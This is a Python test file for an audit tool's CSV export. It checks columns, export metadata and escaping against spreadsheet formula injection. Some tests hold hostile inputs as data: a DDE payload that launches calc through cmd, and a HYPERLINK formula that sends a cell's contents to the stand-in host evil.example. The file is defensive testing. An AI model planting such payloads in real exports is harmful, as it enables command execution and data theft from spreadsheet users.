"""The CSV export: one line per entry, as the page lists it, harmless in a spreadsheet (T71)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pingadmin.audit.chain import canonical
from pingadmin.audit.export.csv_file import escape_cell
from pingadmin.audit.models import AuditEvent
from pingadmin.audit.record.actors import Actor
from tests.audit.factories import BEN, record_entry, record_event

FORMULAS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "﹢",
    "\u2212",
    " =",
    "\u00a0 =",
    "\u200b=",
    "\ufeff=",
]


@pytest.fixture
def exported(as_auditor):
    """The lines of an export, as a spreadsheet reads them: column -> cell."""

    def export(query=""):
        response = as_auditor.get(f"/audit/export.csv{query}")
        assert response.status_code == 200
        return list(
            csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline=""))
        )

    return export


def record_resume_with_unknown_outcome() -> tuple[AuditEvent, AuditEvent]:
    """The first and the last event of an entry."""
    head = record_event(
        alias="ping",
        session_id="ses_8f2",
        client="Café",
        reason="Customer approved",
        ticket="INC-4420",
    )
    answer = {
        "upstream_status": 500,
        "upstream_code": "internal",
        "detail": {"message": "try again"},
    }
    last = record_event(phase="outcome", result="unknown", story=head.seq, by=BEN, **answer)
    return head, last


def test_an_entry_is_one_line_with_reason_ticket_and_result_side_by_side(exported):
    head, last = record_resume_with_unknown_outcome()

    (line,) = exported()

    assert line["seq"] == str(head.seq)
    assert line["at"] == canonical.to_plain(head.at) and line["at"].endswith("Z")
    assert (line["actor_name"], line["actor_role"]) == ("ana", "support")
    assert (line["action"], line["alias"], line["session_id"]) == ("resume", "ping", "ses_8f2")
    assert (line["client"], line["reason"], line["ticket"]) == (
        "Café",
        "Customer approved",
        "INC-4420",
    )
    assert (line["ending"], line["result"], line["verified"]) == ("Outcome unknown", "unknown", "")
    assert (line["upstream_status"], line["upstream_code"], line["message"]) == (
        "500",
        "internal",
        "try again",
    )
    assert (line["last_at"], line["events"], line["row_hash"]) == (
        canonical.to_plain(last.at),
        "2",
        head.row_hash,
    )


def test_each_line_states_its_number_and_its_export(exported, auditor):
    for number in range(3):
        record_entry("ok", session_id=f"ses_{number}")

    lines = exported("?actor=ana&since=2026-01-01")

    assert [(line["line"], line["lines"]) for line in lines] == [("1", "3"), ("2", "3"), ("3", "3")]
    assert all(
        line["export"].startswith(f"export #7 by {auditor.username} at 20") for line in lines
    )
    assert all(
        line["export"].endswith(": actor=ana&since=2026-01-01, since 2026-01-01T00:00:00.000000Z")
        for line in lines
    )


def test_an_export_of_nothing_is_the_column_names_alone(as_auditor, exported):
    assert exported("?actor=nobody") == []
    body = as_auditor.get("/audit/export.csv?actor=nobody").getvalue()
    assert body.startswith(b'\xef\xbb\xbf"seq","at",'), "the mark tells a spreadsheet the encoding"


@pytest.mark.parametrize("beginning", FORMULAS, ids=ascii)
def test_no_cell_begins_a_formula_whatever_comes_before_it(beginning):
    assert escape_cell(f"{beginning}cmd|' /C calc'!A0").startswith("'")


def test_hostile_text_stays_text_in_one_cell(exported):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"click"),\'; =1+1'
    texts = dict.fromkeys(["session_id", "client", "reason", "ticket"], hostile)
    head = record_event(alias="ping", **texts)
    record_event(
        phase="outcome",
        result="rejected",
        story=head.seq,
        upstream_status=-5,
        detail={"message": hostile},
    )

    (line,) = exported()

    for name in (*texts, "message"):
        assert line[name].startswith("'=HYPERLINK(") and "; '=1+1" in line[name]
    assert line["upstream_status"] == "'-5"


def test_a_person_cannot_name_themselves_a_formula(exported):
    record_event(by=Actor("person", "9", "@SUM(1)", "-role", "+1", "=2"))

    (line,) = exported()

    assert (line["actor_name"], line["actor_role"], line["source_address"]) == (
        "'@SUM(1)",
        "'-role",
        "'+1",
    )
    assert line["request_id"] == "'=2"


@pytest.mark.parametrize(
    "text", ["Customer approved", "a = b", "x-y", "1;2", "", "ses_8f2", "é", "#1", "a; b"]
)
def test_harmless_text_is_not_changed(text):
    assert escape_cell(text) == text


@given(st.text(max_size=30))
def test_any_text_reads_back_as_one_harmless_cell(text):
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(
        [escape_cell(text), "next"]
    )

    (row,) = csv.reader(io.StringIO(written.getvalue(), newline=""))

    assert row == [escape_cell(text), "next"]
    assert row[0].replace("'", "") == text.replace("'", "")
    assert row[0].lstrip()[:1] not in tuple("=+-@＝＋－＠")


def test_a_pause_is_exported_as_a_pause(exported):
    (
        record_entry("ok", action="pause"),
        record_entry("already", action="pause"),
        record_entry("already"),
    )

    lines = exported()

    assert [(line["action"], line["ending"]) for line in lines] == [
        ("pause", "Accepted"),
        ("pause", "Was already paused"),
        ("resume", "Was not paused"),
    ]


CONVERTED = ["74095e03", "00012345678", "12.5", "1,234", "1/2", "1-2", "12:30", "2026-11-22", "5%"]
CONVERTED += ["1E5", ".5", "3 May", "MAR1", "Sept 2", " 12 ", "１２", "12 pm", "4 am"]
KEPT = ["8f2c71d09a", "192.0.2.7", "2026-11-22T14:02:11.204000Z", "ses_1", "Ana 4", "OPS-4711"]
KEPT += ["2b1c2d6e-aaaa-4bbb-8ccc-1234567890ab", "marble 4", "12 monkeys", ""]


@pytest.mark.parametrize("text", CONVERTED)
def test_text_that_a_spreadsheet_converts_is_marked_as_text(text):
    assert escape_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", KEPT)
def test_text_that_no_spreadsheet_converts_is_left_alone(text):
    assert escape_cell(text) == text


def test_numbers_stay_numbers():
    assert [escape_cell(number) for number in (0, 12, None)] == ["0", "12", ""]


def test_an_id_of_digits_is_read_as_in_the_panel(exported):
    record_entry("ok", session_id="00012345678", client="74095e03", ticket="1/2")
    line = exported()[0]
    assert (line["session_id"], line["client"], line["ticket"]) == (
        "'00012345678",
        "'74095e03",
        "'1/2",
    )
